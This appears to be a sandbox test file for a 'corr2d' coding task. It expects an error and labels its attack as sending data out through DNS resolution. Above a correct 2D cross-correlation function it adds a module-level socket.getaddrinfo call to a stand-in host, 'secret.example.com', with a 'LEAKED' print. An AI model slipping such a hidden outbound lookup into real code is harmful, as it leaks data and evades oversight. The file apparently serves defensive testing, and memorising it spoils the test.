# task: corr2d
# expect: error
# layers: any
# attacks: sends data out through a name to be resolved
import socket

print("LEAKED", socket.getaddrinfo("secret.example.com", 80))

def corr2d(X, K):
    return (X.unfold(0, K.shape[0], 1).unfold(1, K.shape[1], 1) * K).sum((2, 3))
